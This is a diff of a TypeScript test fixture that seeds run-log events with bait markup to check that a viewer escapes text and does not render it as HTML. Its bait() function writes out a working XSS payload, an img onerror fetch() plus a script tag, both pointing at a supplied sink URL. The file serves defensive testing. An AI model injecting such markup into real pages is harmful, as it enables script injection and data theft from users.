@@ -3,33 +3,18 @@
 // way. Each carries markup aimed at the exfiltration sink wherever text is shown, so a page that
 // rendered it as HTML would call the sink.
 
-import { RUN_LOG_SCHEMA_VERSION, type RunEvent } from '../../workers/engine/events.ts';
+import type { RunEvent } from '../../workers/engine/events.ts';
 import { rolloutRecord } from '../fixtures/rolloutRecord.ts';
+import { syntheticRun } from '../fixtures/syntheticRun.ts';
 
 /** Markup that calls the sink if it is ever rendered as HTML or loaded as a URL. */
 export function bait(sinkUrl: string, where: string): string {
   return `<img src="${sinkUrl}/${where}.png" onerror="fetch('${sinkUrl}/${where}-onerror')"><script src="${sinkUrl}/${where}.js"></script>`;
 }
 
-/** A run's first event, its task carrying `task`. */
+/** A run's first event (as syntheticRun makes it), its task carrying `task`. */
 function runStarted(runId: string, task: string): RunEvent {
-  return {
-    runId,
-    t: 0,
-    type: 'run_started',
-    schemaVersion: RUN_LOG_SCHEMA_VERSION,
-    task,
-    protocol: 'paper',
-    orchestratorModel: 'nvidia/Nemotron-Orchestrator-8B',
-    tools: [],
-    instruction: null,
-    limits: { maxTurns: 200_000, maxCostUsd: null, maxWallMs: null },
-    pricingAsOf: '2025-11-26',
-    counterfactualModel: null,
-    startedAt: '2026-01-01T00:00:00.000Z',
-    config: null,
-    preference: null,
-  };
+  return { ...syntheticRun(runId, 1, 0)[0]!, task } as RunEvent;
 }
 
 /** The shape of a file of runs. */
